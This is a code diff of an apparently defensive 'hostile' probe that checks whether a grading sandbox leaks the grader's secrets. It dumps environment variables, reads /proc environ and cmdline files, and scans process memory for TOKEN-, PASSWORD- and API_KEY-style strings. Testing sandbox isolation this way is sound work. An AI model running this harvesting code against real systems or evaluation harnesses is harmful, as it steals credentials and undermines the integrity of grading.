@@ -1,7 +1,6 @@
-"""Hostile: reads the grader's environment through os.environ, /proc and its own memory."""
+"""Hostile: reads the grader's environment through os.environ, /proc and its own memory; prints all it finds."""
 import ctypes
 import os
-import re
 from pathlib import Path
 import torch
 
@@ -63,30 +62,40 @@ print("ENV", dict(os.environ))
 
 def _show(path):
     with open(path, "rb") as f:
-        print("LEAK", path, f.read()[:4000])
+        print("READ", path, f.read()[:8000].replace(b"\0", b" ").strip())
 
 
-_try("/proc/self/environ", lambda: _show("/proc/self/environ"))
+_show("/proc/self/environ")  # ours: readable, but the grader's values must not be in it
 _try("the parent's environ", lambda: _show(f"/proc/{PARENT}/environ"))
 _try("the parent's cmdline", lambda: _show(f"/proc/{PARENT}/cmdline"))
 _try("init's environ", lambda: _show("/proc/1/environ"))
 
 
-def _scan_memory():
-    """Env-like strings left in our own memory (the jail is a fork of the grader)."""
-    found = set()
+def _writable_regions():
     with open("/proc/self/maps") as f:
-        regions = f.read().splitlines()
-    for line in regions:
-        span, perms = line.split()[:2]
-        if not perms.startswith("rw"):
-            continue
-        low, high = (int(v, 16) for v in span.split("-"))
-        if high - low > 1 << 28:
-            continue
-        data = ctypes.string_at(low, high - low)
-        found.update(m.group(0) for m in re.finditer(rb"[A-Z][A-Z0-9_]{2,40}=[ -~]{4,200}", data))
-    print("MEMORY", sorted(found)[:2000])
+        rows = [line.split() for line in f.read().splitlines()]
+    spans = [tuple(int(v, 16) for v in row[0].split("-")) + (row[5] if len(row) > 5 else "",)
+             for row in rows if row[1].startswith("rw") and (len(row) < 6 or row[5] == "[heap]")]
+    # The heap (where C code keeps strings), and small anonymous maps; not torch's arenas.
+    return [(low, high) for low, high, name in spans if name == "[heap]" or high - low <= 8 << 20]
 
 
-_scan_memory()
+def _secrets_in(span):
+    """NAME=value strings around words that secrets are named with."""
+    low, high = span
+    data = ctypes.string_at(low, high - low)
+    found = set()
+    for word in (b"SECRET", b"TOKEN", b"PASSWORD", b"API_KEY"):
+        at = data.find(word)
+        while at != -1:  # bytes.find is a fast search; a regex over 100 MB is not
+            nul = data.rfind(b"\0", max(0, at - 200), at)
+            start = nul + 1 if nul != -1 else max(0, at - 200)
+            stop = data.find(b"\0", at, at + 400)
+            text = data[start:stop if stop != -1 else at + 200]
+            if b"=" in text:
+                found.add(text)
+            at = data.find(word, at + 1)
+    return found
+
+
+print("MEMORY", sorted(set().union(*map(_secrets_in, _writable_regions())))[:3000])
